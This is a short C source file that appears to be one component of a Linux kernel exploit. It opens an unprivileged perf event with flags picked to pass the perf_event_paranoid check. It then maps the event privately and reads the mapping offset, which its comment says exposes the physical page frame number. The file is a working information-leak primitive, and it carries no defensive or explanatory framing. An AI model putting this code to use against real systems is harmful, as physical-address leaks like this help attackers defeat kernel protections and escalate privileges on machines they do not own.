/* SPDX-License-Identifier: GPL-2.0-or-later */
#include "openers.h"
#include "readers.h"

long pfn_open_perf(void)
{
	/* struct perf_event_attr, 64 bytes (PERF_ATTR_SIZE_VER0): type SOFTWARE 1, size, config DUMMY 9, and of the flags
	 * exclude_kernel (5) and exclude_hv (6): without them an ordinary user is refused at perf_event_paranoid 2. */
	struct { u32 type, size; u64 config, period[3], flags, rest[2]; } attr = {1, 64, 9, {0}, 1 << 5 | 1 << 6, {0}};

	return SYS(perf_event_open, &attr, 0, -1, -1, 8 /* PERF_FLAG_FD_CLOEXEC */);
}

s64 pfn_mmap(long fd, u64 offset, u64 length, long prot, long flags) { return sys_mmap(0, length, prot, flags, fd, offset); }
long pfn_munmap(u64 address, u64 length) { return sys_munmap(address, length); }

/* remap_pfn_range() writes the pfn into vm_pgoff of a mapping that can be COWed, and maps shows it as the offset. */
u64 pfn_of_mapping(long fd, u64 at, u64 page_size)
{
	s64 p = pfn_mmap(fd, at, page_size, S_PROT_READ | S_PROT_WRITE, S_MAP_PRIVATE);
	u64 offset = 0;

	if (failed(p))
		return 0;
	if (pfn_vma_offset((u64)p, &offset) || offset == at)
		offset = 0;
	pfn_munmap((u64)p, page_size);
	return offset / page_size;
}
